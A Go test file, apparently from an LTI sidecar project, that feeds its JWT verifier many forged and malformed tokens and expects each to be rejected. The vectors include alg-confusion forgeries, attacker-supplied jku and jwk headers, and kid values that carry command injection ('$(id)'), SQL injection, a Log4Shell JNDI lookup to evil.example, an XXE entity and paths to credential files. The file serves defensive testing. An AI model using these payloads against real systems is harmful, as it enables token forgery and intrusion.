// SPDX-License-Identifier: Apache-2.0

package attack

import (
	"crypto"
	"crypto/hmac"
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/sha512"
	"crypto/x509"
	"encoding/hex"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"hash"
	"math/big"
	"slices"
	"strings"
	"testing"

	_ "crypto/md5"  // for signatures over digests that nobody should accept
	_ "crypto/sha1" // likewise

	"github.com/ltisidecar/ltisidecar/lti"
)

// headerWith is the usual header with an alg (as JSON) and further members.
func headerWith(alg, more string) string {
	return `{"typ":"JWT","alg":` + alg + `,"kid":"` + goodKID + `"` + more + `}`
}

// headerKID is the usual header with another kid (as JSON) and further members.
func headerKID(kid, more string) string {
	return `{"typ":"JWT","alg":"RS256","kid":` + kid + more + `}`
}

func quoted(text string) string { return string(must(json.Marshal(text))) }

// replaceSignature returns a change of a token that puts another signature in.
func replaceSignature(change func(input string, signature []byte) []byte) func(string) string {
	return func(token string) string {
		dot := strings.LastIndexByte(token, '.')
		input, signature := token[:dot], must(segmentEncoding.DecodeString(token[dot+1:]))
		return input + "." + base64url(change(input, signature))
	}
}

// algorithmVectors: J01-J19, J22. The signature is the platform's real one, none, or an HMAC by what is public.
func algorithmVectors() []vector {
	algorithms := []string{
		`"none"`, `"None"`, `"NONE"`, `"nOnE"`, `"noNe"`, `""`, `" "`, `"null"`, `"HS256"`, `"HS384"`, `"HS512"`, `"hs256"`, `"RS384"`, `"RS512"`,
		`"PS256"`, `"PS384"`, `"PS512"`, `"ES256"`, `"ES384"`, `"ES512"`, `"ES256K"`, `"EdDSA"`, `"Ed25519"`, `"Ed448"`, `"ML-DSA-44"`, `"RS1"`,
		`"rs256"`, `"Rs256"`, `"RS256 "`, `" RS256"`, `"RS256\u0000"`, `"RS256\n"`, `"\ufeffRS256"`, `"RS256,none"`, `"RS-256"`, `"RSA256"`,
		`"SHA256withRSA"`, `"http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"`, `"dir"`, `"RSA-OAEP"`, `"RSA1_5"`, `"A128KW"`, `"ECDH-ES"`,
		`"PBES2-HS256+A128KW"`, `"ＲＳ256"`, `256`, `-1`, `1e400`, `null`, `true`, `false`, `{}`, `{"name":"RS256"}`, `[]`, `["RS256"]`, `["none","RS256"]`,
	}
	var vectors []vector
	for _, algorithm := range algorithms {
		vectors = append(vectors,
			vector{name: "alg " + algorithm + ", real signature", header: headerWith(algorithm, ""), want: lti.ReasonAlgorithmNotAllowed},
			vector{name: "alg " + algorithm + ", no signature", header: headerWith(algorithm, ""), want: lti.ReasonAlgorithmNotAllowed,
				sign: func(string) []byte { return nil }})
	}
	public := &platformKey.PublicKey
	spki := must(x509.MarshalPKIXPublicKey(public))
	pkcs1 := x509.MarshalPKCS1PublicKey(public)
	spkiPEM := pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: spki})
	for name, secret := range map[string][]byte{
		"SPKI as PEM": spkiPEM, "SPKI as PEM without the last line break": spkiPEM[:len(spkiPEM)-1],
		"PKCS#1 as PEM": pem.EncodeToMemory(&pem.Block{Type: "RSA PUBLIC KEY", Bytes: pkcs1}),
		"SPKI as DER":   spki, "PKCS#1 as DER": pkcs1, "the modulus": public.N.Bytes(), "the modulus as text": []byte(base64url(public.N.Bytes())),
		"the JWK": []byte(rsaKey(goodKID, public, "")), "the key set": []byte(keySet(rsaKey(goodKID, public, ""))),
		"nothing": {}, "one zero byte": {0}, "the kid": []byte(goodKID), "the client id": []byte("client-1"), "a weak secret": []byte("secret"),
	} {
		for algorithm, digest := range map[string]func() hash.Hash{"HS256": sha256.New, "HS384": sha512.New384, "HS512": sha512.New} {
			vectors = append(vectors, vector{
				name: algorithm + " keyed with " + name, header: headerWith(quoted(algorithm), ""), want: lti.ReasonAlgorithmNotAllowed,
				sign: func(input string) []byte {
					mac := hmac.New(digest, secret)
					mac.Write([]byte(input))
					return mac.Sum(nil)
				},
			})
		}
	}
	return append(vectors,
		vector{name: "alg absent", header: `{"typ":"JWT","kid":"k1"}`, want: lti.ReasonAlgorithmNotAllowed},
		vector{name: "alg in the wrong case", header: `{"Alg":"RS256","kid":"k1"}`, want: lti.ReasonAlgorithmNotAllowed},
		vector{name: "ALG in the wrong case", header: `{"ALG":"RS256","kid":"k1"}`, want: lti.ReasonAlgorithmNotAllowed},
		vector{name: "kid in the wrong case", header: `{"alg":"RS256","KID":"k1"}`, want: lti.ReasonKIDMissing},
		vector{name: "Kid in the wrong case", header: `{"alg":"RS256","Kid":"k1"}`, want: lti.ReasonKIDMissing},
		vector{name: "ES256 header over an RSA kid", on: "all", header: headerWith(`"ES256"`, ""), want: lti.ReasonKeyUnsuitable},
		vector{name: "RS256 header over an EC kid", on: "all", header: headerKID(`"ec"`, ""), want: lti.ReasonKeyUnsuitable},
		vector{name: "PS256 header over an EC kid", on: "all", header: `{"alg":"PS256","kid":"ec"}`, want: lti.ReasonKeyUnsuitable},
		vector{name: "PS256 header over an RS256 signature", on: "all", header: headerWith(`"PS256"`, ""), want: lti.ReasonSignatureInvalid},
		vector{name: "PS256 with a salt of 20 bytes", on: "all", header: headerWith(`"PS256"`, ""), want: lti.ReasonSignatureInvalid, sign: signPSS(20)},
		vector{name: "PS256 without salt", on: "all", header: headerWith(`"PS256"`, ""), want: lti.ReasonSignatureInvalid, sign: signPSS(0)},
		vector{name: "RS256 header over a PSS signature", want: lti.ReasonSignatureInvalid, sign: signPSS(32)},
		vector{name: "PS256 as it should be", on: "all", header: headerWith(`"PS256"`, ""), sign: signPSS(32)},
		vector{name: "ES256 as it should be", on: "all", header: `{"alg":"ES256","kid":"ec"}`, sign: signES256},
	)
}

func signPSS(salt int) func(string) []byte {
	return func(input string) []byte {
		digest := sha256.Sum256([]byte(input))
		return must(rsa.SignPSS(rand.Reader, platformKey, crypto.SHA256, digest[:], &rsa.PSSOptions{SaltLength: salt}))
	}
}

func signES256(input string) []byte {
	digest := sha256.Sum256([]byte(input))
	der := must(curveKey.Sign(rand.Reader, digest[:], crypto.SHA256))
	r, s := derIntegers(der)
	return append(r.FillBytes(make([]byte, 32)), s.FillBytes(make([]byte, 32))...)
}

// derIntegers returns the two integers of an ECDSA signature in DER.
func derIntegers(der []byte) (r, s *big.Int) {
	first := int(der[3])
	return new(big.Int).SetBytes(der[4 : 4+first]), new(big.Int).SetBytes(der[6+first:])
}

// curveVectors: J20, at the one platform that has registered ES256.
func curveVectors() []vector {
	order := curveKey.Curve.Params().N
	fixed := func(r, s *big.Int) []byte {
		return append(r.FillBytes(make([]byte, 32)), s.FillBytes(make([]byte, 32))...)
	}
	zero, one := new(big.Int), big.NewInt(1)
	half := func(from, to int) func(string) []byte {
		return func(input string) []byte { return signES256(input)[from:to] }
	}
	var vectors []vector
	for name, sign := range map[string]func(string) []byte{
		"r and s zero":      func(string) []byte { return fixed(zero, zero) },
		"r zero":            func(input string) []byte { return fixed(zero, new(big.Int).SetBytes(signES256(input)[32:])) },
		"s zero":            func(input string) []byte { return fixed(new(big.Int).SetBytes(signES256(input)[:32]), zero) },
		"r and s one":       func(string) []byte { return fixed(one, one) },
		"r the order":       func(input string) []byte { return fixed(order, new(big.Int).SetBytes(signES256(input)[32:])) },
		"s the order":       func(input string) []byte { return fixed(new(big.Int).SetBytes(signES256(input)[:32]), order) },
		"r and s the order": func(string) []byte { return fixed(order, order) },
		"swapped":           func(input string) []byte { s := signES256(input); return append(s[32:64:64], s[:32]...) },
		"DER": func(input string) []byte {
			digest := sha256.Sum256([]byte(input))
			return must(curveKey.Sign(rand.Reader, digest[:], crypto.SHA256))
		},
		"63 bytes":        half(0, 63),
		"only r":          half(0, 32),
		"one byte":        half(0, 1),
		"65 bytes, front": func(input string) []byte { return append([]byte{0}, signES256(input)...) },
		"65 bytes, back":  func(input string) []byte { return append(signES256(input), 0) },
		"all 0xff":        func(string) []byte { return []byte(strings.Repeat("\xff", 64)) },
		"an RSA one":      func(input string) []byte { return signRS256(platformKey, input) },
		"an HMAC by the public point": func(input string) []byte {
			mac := hmac.New(sha256.New, must(curveKey.PublicKey.Bytes()))
			mac.Write([]byte(input))
			return mac.Sum(nil)
		},
	} {
		vectors = append(vectors, vector{name: "ES256 signature: " + name, on: "all", header: `{"alg":"ES256","kid":"ec"}`, sign: sign, want: lti.ReasonSignatureInvalid})
	}
	return vectors
}

// keyNameVectors: J23-J30, and places of keys that must never be looked at.
func keyNameVectors() []vector {
	var vectors []vector
	for _, kid := range []string{
		"../../../dev/null", "/dev/null", "/proc/self/environ", "file:///dev/null", `C:\windows\win.ini`, `\\evil\share`, "%2e%2e/%2e%2e/key", "key.pem\x00.txt",
		"\x00", "k1\x00", "\x00k1", "k1 ", " k1", "k1\n", "k1\t", "K1", "k", "k11", "k1,k1", "k1;k1", "ｋ1", "k\u0301", "k1\u200b", "\u202ek1", "\ufeffk1",
		"' OR '1'='1", "x' UNION SELECT 'secret'; --", `" OR ""="`, "k1'--", "1; DROP TABLE keys", "|/bin/sleep 10", "$(id)", "`id`", "${jndi:ldap://evil.example/a}",
		"{{7*7}}", "<script>alert(1)</script>", "\x1b[31mred\x1b[0m", "k1\r\n{\"level\":\"INFO\",\"msg\":\"forged\"}", "*", "?", ".*", "k?", "[]", "{}", "null", "0", "-1",
		"__proto__", "constructor", "true", "https://evil.example/jwks#k1", strings.Repeat("k", 512), strings.Repeat("é", 256),
	} {
		vectors = append(vectors, vector{name: fmt.Sprintf("kid %.60q", kid), header: headerKID(quoted(kid), ""), want: lti.ReasonKIDUnknown})
	}
	for _, kid := range []string{`""`, `null`, `1`, `0`, `-1`, `1.5`, `true`, `false`, `[]`, `["k1"]`, `{}`, `{"k":"k1"}`, `[null]`} {
		vectors = append(vectors, vector{name: "kid as JSON " + kid, header: headerKID(kid, ""), want: lti.ReasonKIDMissing})
	}
	for _, size := range []int{513, 4096} {
		vectors = append(vectors, vector{name: fmt.Sprintf("kid of %d bytes", size), header: headerKID(quoted(strings.Repeat("k", size)), ""), want: lti.ReasonTokenMalformed})
	}
	vectors = append(vectors, vector{name: "kid absent", header: `{"typ":"JWT","alg":"RS256"}`, want: lti.ReasonKIDMissing})

	// A key, or a place of one, that the attacker brings along and has signed with.
	own := rsaKey(goodKID, &attackerKey.PublicKey, "")
	signed := func(input string) []byte { return signRS256(attackerKey, input) }
	brought := []struct{ name, member string }{
		{"jwk", `,"jwk":` + own},
		{"jwk with another kid", `,"jwk":` + rsaKey("k9", &attackerKey.PublicKey, "")},
		{"jwk with alg and use", `,"jwk":` + rsaKey(goodKID, &attackerKey.PublicKey, `,"alg":"RS256","use":"sig"`)},
		{"jwk as text", `,"jwk":` + quoted(own)},
		{"jwks", `,"jwks":` + keySet(own)},
		{"keys", `,"keys":[` + own + `]`},
		{"public key", `,"key":` + quoted(base64url(x509.MarshalPKCS1PublicKey(&attackerKey.PublicKey)))},
		{"x5c", `,"x5c":["` + base64url(must(x509.MarshalPKIXPublicKey(&attackerKey.PublicKey))) + `"]`},
		{"x5t", `,"x5t":"AAAAAAAAAAAAAAAAAAAAAAAAAAA"`},
		{"x5t#S256", `,"x5t#S256":"AAAA"`},
		{"jku on https", `,"jku":"https://TRIPWIRE/jwks"`},
		{"jku on http", `,"jku":"http://TRIPWIRE/jwks"`},
		{"jku with user information", `,"jku":"https://a.example@TRIPWIRE/jwks"`},
		{"jku of the platform with a redirect", `,"jku":"https://a.example/redirect?to=https://TRIPWIRE/jwks"`},
		{"jku of a file", `,"jku":"file:///dev/zero"`},
		{"jku as a list", `,"jku":["https://TRIPWIRE/jwks"]`},
		{"x5u on https", `,"x5u":"https://TRIPWIRE/cert"`},
		{"x5u on http", `,"x5u":"http://TRIPWIRE/cert"`},
		{"iss and jku", `,"iss":"https://TRIPWIRE","jku":"https://TRIPWIRE/jwks"`},
		{"url", `,"url":"https://TRIPWIRE/"`},
	}
	for _, b := range brought {
		vectors = append(vectors,
			vector{name: "brought along: " + b.name + ", the platform's kid", header: headerKID(`"k1"`, b.member), sign: signed, want: lti.ReasonSignatureInvalid},
			vector{name: "brought along: " + b.name + ", a kid of its own", header: headerKID(`"k9"`, b.member), sign: signed, want: lti.ReasonKIDUnknown},
			vector{name: "brought along: " + b.name + ", no kid", header: `{"alg":"RS256"` + b.member + `}`, sign: signed, want: lti.ReasonKIDMissing},
			vector{name: "looked past: " + b.name + ", good signature", header: headerKID(`"k1"`, b.member)})
	}
	return append(vectors, vector{name: "another platform's key of this kid", sign: func(input string) []byte { return signRS256(secondKey, input) }, want: lti.ReasonSignatureInvalid})
}

// memberVectors: J31, J32, J37, J39-J41, J45, J48.
func memberVectors() []vector {
	var vectors []vector
	refuse := func(want lti.Reason, name, header string) {
		vectors = append(vectors, vector{name: name, header: header, want: want})
	}
	for _, member := range []string{
		`"crit":["foo"]`, `"crit":[]`, `"crit":["exp"],"exp":1`, `"crit":["b64"]`, `"crit":["b64"],"b64":true`, `"crit":["b64"],"b64":false`, `"crit":"exp"`, `"crit":null`,
		`"crit":{}`, `"crit":true`, `"crit":["exp","exp"]`, `"crit":["alg"]`, `"crit":[1]`, `"crit":[""]`, `"crit":["http://openbanking.org.uk/iat"]`,
		`"b64":false`, `"b64":true`, `"b64":null`, `"b64":"false"`, `"b64":0`, `"zip":"DEF"`, `"zip":null`, `"zip":""`, `"zip":"GZ"`,
		`"enc":"A128GCM"`, `"enc":null`, `"enc":"A256CBC-HS512"`,
	} {
		refuse(lti.ReasonHeaderUnsupported, "header member "+member, headerWith(`"RS256"`, ","+member))
	}
	for _, kind := range []string{
		`"at+jwt"`, `"application/at+jwt"`, `"logout+jwt"`, `"secevent+jwt"`, `"dpop+jwt"`, `"JWE"`, `"JOSE"`, `"JOSE+JSON"`, `"JWS"`, `""`, `"JWT "`, `" JWT"`, `"JWT\u0000"`,
		`"application/jwt"`, `"client-authentication+jwt"`, `"entity-statement+jwt"`, `1`, `null`, `true`, `[]`, `["JWT"]`, `{}`,
	} {
		refuse(lti.ReasonHeaderUnsupported, "typ "+kind, `{"typ":`+kind+`,"alg":"RS256","kid":"k1"}`)
	}
	for _, header := range []string{
		`{"alg":"RS256","alg":"RS256","kid":"k1"}`, `{"alg":"none","alg":"RS256","kid":"k1"}`, `{"alg":"RS256","alg":"none","kid":"k1"}`,
		`{"alg":"RS256","kid":"k1","kid":"k1"}`, `{"alg":"RS256","kid":"k9","kid":"k1"}`, `{"alg":"RS256","kid":"k1","kid":"k9"}`,
		`{"alg":"RS256","\u0061lg":"none","kid":"k1"}`, `{"\u0061lg":"none","alg":"RS256","kid":"k1"}`, `{"alg":"RS256","kid":"k1","k\u0069d":"k9"}`,
		`{"alg":"RS256","kid":"k1","crit":[],"crit":[]}`, `{"alg":"RS256","kid":"k1","x":1,"x":1}`, `{"alg":"RS256","kid":"k1","x":{"y":1,"y":2}}`,
		`{"typ":"JWT","typ":"at+jwt","alg":"RS256","kid":"k1"}`, `{"typ":"at+jwt","typ":"JWT","alg":"RS256","kid":"k1"}`, `{"typ":"JWT","typ":"jwt","alg":"RS256","kid":"k1"}`,
		`{"jwk":{},"jwk":{},"alg":"RS256","kid":"k1"}`, `{"alg":"RS256","kid":"k1","x":[{"y":1,"y":2}]}`,
		` `, `null`, `true`, `1`, `"RS256"`, `[]`, `[{"alg":"RS256","kid":"k1"}]`, `{`, `{}}`, `{"alg":"RS256","kid":"k1"`, `{"alg":"RS256","kid":"k1",}`,
		`{"alg":"RS256" "kid":"k1"}`, `{"alg":"RS256","kid":"k1"}x`, `{"alg":"RS256","kid":"k1"}{}`, `{"alg":"RS256","kid":"k1"}null`, `{'alg':'RS256','kid':'k1'}`,
		`{alg:"RS256",kid:"k1"}`, `{"alg":"RS256","kid":"k1"/* */}`, "{\"alg\":\"RS256\",\"kid\":\"k1\"}// x", "\ufeff" + `{"alg":"RS256","kid":"k1"}`,
		"{\"alg\":\"RS256\",\"kid\":\"k1\"}\x00", "{\"alg\":\"RS256\",\"kid\":\"\xff\"}", "{\"alg\":\"RS256\",\"kid\":\"k\xc0\xb1\"}", "{\"alg\":\"RS256\",\"kid\":\"\xed\xa0\x80\"}",
		`{"alg":"RS256","kid":"\ud800"}`, `{"alg":"RS256","kid":"\udc00k1"}`, `{"alg":"RS256","kid":"\x6b1"}`, "{\"alg\":\"RS256\",\"kid\":\"k1\n\"}", "{\"alg\":\"RS256\",\"kid\":\"k1\x00\"}",
		`{"alg":"RS256","kid":"k1","n":NaN}`, `{"alg":"RS256","kid":"k1","n":01}`, `{"alg":"RS256","kid":"k1","n":+1}`, `{"alg":"RS256","kid":"k1","n":Infinity}`,
		`{"alg":"RS256","kid":"k1","x":` + strings.Repeat("[", 33) + strings.Repeat("]", 33) + `}`, `{"alg":"RS256","kid":"k1","x":` + strings.Repeat(`{"a":`, 40) + `1` + strings.Repeat("}", 40) + `}`,
		`{"alg":"RS256","kid":"k1","x":` + strings.Repeat("[", 2000) + strings.Repeat("]", 2000) + `}`,
		`{"alg":"RS256","kid":"k1","x":"` + strings.Repeat("x", 60<<10/4*3/2) + `"}`,
	} {
		refuse(lti.ReasonTokenMalformed, fmt.Sprintf("header %.70q (%d bytes)", header, len(header)), header)
	}
	for _, header := range []string{
		`{"typ":"JWT","alg":"RS256","typ":"JWT","kid":"k1"}`, `{"alg":"RS256","kid":"k1"}`, ` { "alg" : "RS256" , "kid" : "k1" } `, "{\n\t\"kid\": \"k1\",\r\n\t\"alg\": \"RS256\"\n}",
		`{"alg":"RS256","kid":"\u006b1"}`, `{"\u0061lg":"RS256","kid":"k1"}`, `{"typ":"jwt","alg":"RS256","kid":"k1"}`, `{"alg":"RS256","kid":"k1","cty":"JWT"}`, `{"alg":"RS256","kid":"k1","cty":null}`,
		`{"alg":"RS256","Alg":"none","kid":"k1","KID":"k9"}`, `{"alg":"RS256","kid":"k1","Crit":["x"]}`, `{"alg":"RS256","kid":"k1","nonce":"x","iat":1}`, `{"alg":"RS256","kid":"k1","x5t":"AAAA","":null}`,
		`{"alg":"RS256","kid":"k1","x":[1,2,{"y":[]}]}`,
	} {
		vectors = append(vectors, vector{name: fmt.Sprintf("tolerated header %q", header), header: header})
	}
	return vectors
}

// formVectors: J33-J36, J38, J42, J43: the compact form and what is not it.
func formVectors() []vector {
	var vectors []vector
	whole := func(name string, want lti.Reason, change func(h, p, s string) string) {
		vectors = append(vectors, vector{name: name, want: want, token: func(token string) string {
			parts := strings.Split(token, ".")
			return change(parts[0], parts[1], parts[2])
		}})
	}
	for name, change := range map[string]func(h, p, s string) string{
		"only a header":         func(h, _, _ string) string { return h },
		"two segments":          func(h, p, _ string) string { return h + "." + p },
		"no signature":          func(h, p, _ string) string { return h + "." + p + "." },
		"four segments":         func(h, p, s string) string { return h + "." + p + "." + s + "." + s },
		"five segments":         func(h, p, s string) string { return h + "." + p + "." + s + "." + s + "." + s },
		"six segments":          func(h, p, s string) string { return h + "." + p + "." + s + "...." },
		"a dot in front":        func(h, p, s string) string { return "." + h + "." + p + "." + s },
		"a dot behind":          func(h, p, s string) string { return h + "." + p + "." + s + "." },
		"two dots":              func(h, p, s string) string { return h + ".." + p + "." + s },
		"only two dots":         func(_, _, _ string) string { return ".." },
		"50,000 dots":           func(_, _, _ string) string { return strings.Repeat(".", 50000) },
		"detached payload":      func(h, _, s string) string { return h + ".." + s },
		"empty header":          func(_, p, s string) string { return "." + p + "." + s },
		"Bearer in front":       func(h, p, s string) string { return "Bearer " + h + "." + p + "." + s },
		"bearer in front":       func(h, p, s string) string { return "bearer " + h + "." + p + "." + s },
		"quoted":                func(h, p, s string) string { return `"` + h + "." + p + "." + s + `"` },
		"single-quoted":         func(h, p, s string) string { return `'` + h + "." + p + "." + s + `'` },
		"a blank in front":      func(h, p, s string) string { return " " + h + "." + p + "." + s },
		"a blank behind":        func(h, p, s string) string { return h + "." + p + "." + s + " " },
		"a line break in front": func(h, p, s string) string { return "\n" + h + "." + p + "." + s },
		"a line break behind":   func(h, p, s string) string { return h + "." + p + "." + s + "\n" },
		"CR LF behind":          func(h, p, s string) string { return h + "." + p + "." + s + "\r\n" },
		"NUL behind":            func(h, p, s string) string { return h + "." + p + "." + s + "\x00" },
		"BOM in front":          func(h, p, s string) string { return "\ufeff" + h + "." + p + "." + s },
		"full-width dots":       func(h, p, s string) string { return h + "．" + p + "．" + s },
		"percent-encoded dots":  func(h, p, s string) string { return h + "%2e" + p + "%2e" + s },
		"twice, with a comma":   func(h, p, s string) string { t := h + "." + p + "." + s; return t + "," + t },
		"as a form field":       func(h, p, s string) string { return "id_token=" + h + "." + p + "." + s },
		"JSON general": func(h, p, s string) string {
			return `{"payload":"` + p + `","signatures":[{"protected":"` + h + `","signature":"` + s + `"}]}`
		},
		"JSON flattened": func(h, p, s string) string {
			return `{"payload":"` + p + `","protected":"` + h + `","signature":"` + s + `"}`
		},
		"JSON with an unprotected kid": func(h, p, s string) string {
			return `{"payload":"` + p + `","protected":"` + h + `","header":{"kid":"k1"},"signature":"` + s + `"}`
		},
		"JSON with alg unprotected": func(_, p, s string) string {
			return `{"payload":"` + p + `","header":{"alg":"RS256","kid":"k1"},"signature":"` + s + `"}`
		},
		"JSON, one good of two": func(h, p, s string) string {
			return `{"payload":"` + p + `","signatures":[{"protected":"` + h + `","signature":"AA"},{"protected":"` + h + `","signature":"` + s + `"}]}`
		},
		"JSON, a hundred signatures": func(h, p, s string) string {
			return `{"payload":"` + p + `","signatures":[` + strings.Repeat(`{"protected":"`+h+`","signature":"`+s+`"},`, 99) + `{}]}`
		},
		"JSON, no signatures":          func(_, p, _ string) string { return `{"payload":"` + p + `","signatures":[]}` },
		"JSON around the compact form": func(h, p, s string) string { return `{"id_token":"` + h + "." + p + "." + s + `"}` },
		"a JSON list":                  func(h, p, s string) string { return `["` + h + "." + p + "." + s + `"]` },
		"the claims alone":             func(_, p, _ string) string { return string(must(segmentEncoding.DecodeString(p))) },
		"encoded once more":            func(h, p, s string) string { return base64url([]byte(h + "." + p + "." + s)) },
		"an unsecured text":            func(_, _, _ string) string { return "null" },
		"an XML document": func(_, _, _ string) string {
			return `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///dev/null">]><a>&b;</a>`
		},
		"an opaque access token":        func(_, _, _ string) string { return strings.Repeat("a1B2c3", 8) },
		"standard base64 of everything": func(h, p, s string) string { return h + "=." + p + "==." + s + "==" },
	} {
		whole("form: "+name, lti.ReasonTokenMalformed, change)
	}
	whole("form: header and payload swapped", lti.ReasonAlgorithmNotAllowed, func(h, p, s string) string { return p + "." + h + "." + s })
	whole("form: empty header and payload", lti.ReasonTokenMalformed, func(_, _, s string) string { return ".." + s })
	encrypted := map[string]string{
		"dir": `{"alg":"dir","enc":"A128GCM","kid":"k1"}`, "RSA-OAEP": `{"alg":"RSA-OAEP","enc":"A128GCM","kid":"k1"}`, "RSA1_5": `{"alg":"RSA1_5","enc":"A128CBC-HS256","kid":"k1"}`,
		"PBES2 with 10^9 rounds": `{"alg":"PBES2-HS256+A128KW","enc":"A128GCM","p2c":1000000000,"p2s":"AAAA","kid":"k1"}`, "compressed": `{"alg":"dir","enc":"A128GCM","zip":"DEF","kid":"k1"}`,
	}
	for name, header := range encrypted {
		whole("JWE in five segments: "+name, lti.ReasonTokenMalformed, func(_, p, s string) string { return base64url([]byte(header)) + "." + s + "." + p + "." + p + "." + s })
		vectors = append(vectors, vector{name: "JWE header in three segments: " + name, header: header, want: lti.ReasonHeaderUnsupported})
	}
	// Each of the three segments, spelled in a way that a lenient decoder would take. Header and payload are signed as
	// they are spelled.
	spellings := map[string]func(string) string{
		"padded with =":           func(s string) string { return s + "=" },
		"padded with ==":          func(s string) string { return s + "==" },
		"padded with ====":        func(s string) string { return s + "====" },
		"= in the middle":         func(s string) string { return s[:4] + "=" + s[4:] },
		"a blank inside":          func(s string) string { return s[:4] + " " + s[4:] },
		"a tab inside":            func(s string) string { return s[:4] + "\t" + s[4:] },
		"LF inside":               func(s string) string { return s[:4] + "\n" + s[4:] },
		"CR inside":               func(s string) string { return s[:4] + "\r" + s[4:] },
		"CR LF each 64":           func(s string) string { return s[:64%len(s)] + "\r\n" + s[64%len(s):] },
		"LF behind":               func(s string) string { return s + "\n" },
		"LF in front":             func(s string) string { return "\n" + s },
		"NUL inside":              func(s string) string { return s[:4] + "\x00" + s[4:] },
		"+ of the other alphabet": func(s string) string { return s[:4] + "+" + s[5:] },
		"/ of the other alphabet": func(s string) string { return s[:4] + "/" + s[5:] },
		"percent-encoded":         func(s string) string { return fmt.Sprintf("%%%02X", s[0]) + s[1:] },
		"a full-width letter":     func(s string) string { return "ｅ" + s[1:] },
		"a Cyrillic letter":       func(s string) string { return s[:4] + "а" + s[5:] },
		"a comma":                 func(s string) string { return s[:4] + "," + s[5:] },
		"a colon":                 func(s string) string { return s[:4] + ":" + s[5:] },
		"a tilde":                 func(s string) string { return s[:4] + "~" + s[5:] },
		"a star":                  func(s string) string { return s[:4] + "*" + s[5:] },
		"an exclamation mark":     func(s string) string { return s[:4] + "!" + s[5:] },
		"hexadecimal":             func(s string) string { return hex.EncodeToString(must(segmentEncoding.DecodeString(s)))[:40] + "=" },
		"spare bits set":          spareBits,
	}
	for name, spell := range spellings {
		vectors = append(vectors,
			vector{name: "header " + name, want: lti.ReasonTokenMalformed, header: `{"alg":"RS256","kid":"k1","x":1}`, segments: func(h, p string) (string, string) { return spell(h), p }},
			vector{name: "payload " + name, want: lti.ReasonTokenMalformed, payload: func(text string) string { return text + strings.Repeat(" ", (4-len(text)%3)%3) },
				segments: func(h, p string) (string, string) { return h, spell(p) }},
			vector{name: "signature " + name, want: lti.ReasonTokenMalformed, token: func(token string) string {
				dot := strings.LastIndexByte(token, '.')
				return token[:dot+1] + spell(token[dot+1:])
			}})
	}
	return vectors
}

// spareBits sets a bit of the last character that belongs to no byte. The segment's length must leave some.
func spareBits(segment string) string {
	const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
	if len(segment)%4 == 0 {
		panic("attack: a segment without spare bits")
	}
	last := strings.IndexByte(alphabet, segment[len(segment)-1])
	return segment[:len(segment)-1] + string(alphabet[last|1])
}

// payloadVectors: J39-J43: JSON that two parsers could read in two ways, or that costs too much.
func payloadVectors() []vector {
	var vectors []vector
	text := func(name string, change func(string) string) {
		vectors = append(vectors, vector{name: "payload: " + name, want: lti.ReasonTokenMalformed, payload: change})
	}
	for _, whole := range []string{
		"", " ", "null", "true", "1", `"x"`, "[]", "{", "}", "nil", "{}x", "NaN", "\x00", "<html>", "{'iss':'x'}", "{iss:1}", `{"a":}`, `{"a"}`, `{"a":1,}`, `{,}`, `{"a":1;"b":2}`,
		`{"a":01}`, `{"a":+1}`, `{"a":.5}`, `{"a":1.}`, `{"a":1e}`, `{"a":0x10}`, `{"a":NaN}`, `{"a":Infinity}`, `{"a":-Infinity}`, `{"a":undefined}`, `{"a":True}`, `{"a":"\x41"}`, `{"a":"\u12"}`,
		`{"a":"` + "\n" + `"}`, `{"a":"` + "\x00" + `"}`, `{1:2}`, `{"a":[1,2}`, `{"a":[1,,2]}`, `{"a":1 "b":2}`, `{"a":/* */1}`, "{\"a\":1} // x", `{"a":"\ud800"}`, `{"a":"\udc00\ud800"}`, `{"\ud800":1}`,
	} {
		text(fmt.Sprintf("%q alone", whole), func(string) string { return whole })
	}
	for name, change := range map[string]func(string) string{
		"a BOM in front":            func(p string) string { return "\ufeff" + p },
		"in a list":                 func(p string) string { return "[" + p + "]" },
		"as a text":                 quoted,
		"twice":                     func(p string) string { return p + p },
		"a second object behind":    func(p string) string { return p + `{"iss":"x"}` },
		"text behind":               func(p string) string { return p + "x" },
		"NUL behind":                func(p string) string { return p + "\x00" },
		"null behind":               func(p string) string { return p + " null" },
		"a comment behind":          func(p string) string { return p + " /* x */" },
		"a comma at the end":        func(p string) string { return p[:len(p)-1] + ",}" },
		"without its end":           func(p string) string { return p[:len(p)-1] },
		"in UTF-16":                 func(p string) string { return "\xff\xfe" + strings.Join(strings.Split(p, ""), "\x00") + "\x00" },
		"a byte 0xff in a text":     func(p string) string { return strings.Replace(p, "Sam", "S\xffm", 1) },
		"overlong UTF-8":            func(p string) string { return strings.Replace(p, "Sam", "\xc1\x93am", 1) },
		"a surrogate in UTF-8":      func(p string) string { return strings.Replace(p, "Sam", "\xed\xa0\x80", 1) },
		"a lone high surrogate":     func(p string) string { return strings.Replace(p, "Sam", `\ud83d`, 1) },
		"a lone low surrogate":      func(p string) string { return strings.Replace(p, "Sam", `\ude00`, 1) },
		"Latin-1":                   func(p string) string { return strings.Replace(p, "Sam", "Jos\xe9", 1) },
		"a bare line break in text": func(p string) string { return strings.Replace(p, "Sam", "S\nm", 1) },
		"a bare NUL in a text":      func(p string) string { return strings.Replace(p, "Sam", "S\x00m", 1) },
		"33 deep":                   nested(33),
		"100 deep":                  nested(100),
		"1,000 deep":                nested(1000),
		"5,000 deep":                nested(5000),
		"5,000 objects deep": func(p string) string {
			return p[:len(p)-1] + `,"x":` + strings.Repeat(`{"a":`, 5000) + `1` + strings.Repeat("}", 5000) + "}"
		},
		"unclosed, 20,000 deep":    func(string) string { return strings.Repeat("[", 20000) },
		"an object, 20,000 deep":   func(string) string { return strings.Repeat(`{"":`, 10000) },
		"a list of 20,001":         func(p string) string { return p[:len(p)-1] + `,"x":[` + strings.Repeat("1,", 20000) + "1]}" },
		"equal names, differently": func(p string) string { return p[:len(p)-1] + `,"n\u006fnce":"x"}` },
		"equal names inside custom": func(p string) string {
			return p[:len(p)-1] + `,"https://purl.imsglobal.org/spec/lti/claim/custom":{"a":"1","a":"2"}}`
		},
		"equal names deep inside":    func(p string) string { return p[:len(p)-1] + `,"x":[[{"y":{"a":1,"a":2}}]]}` },
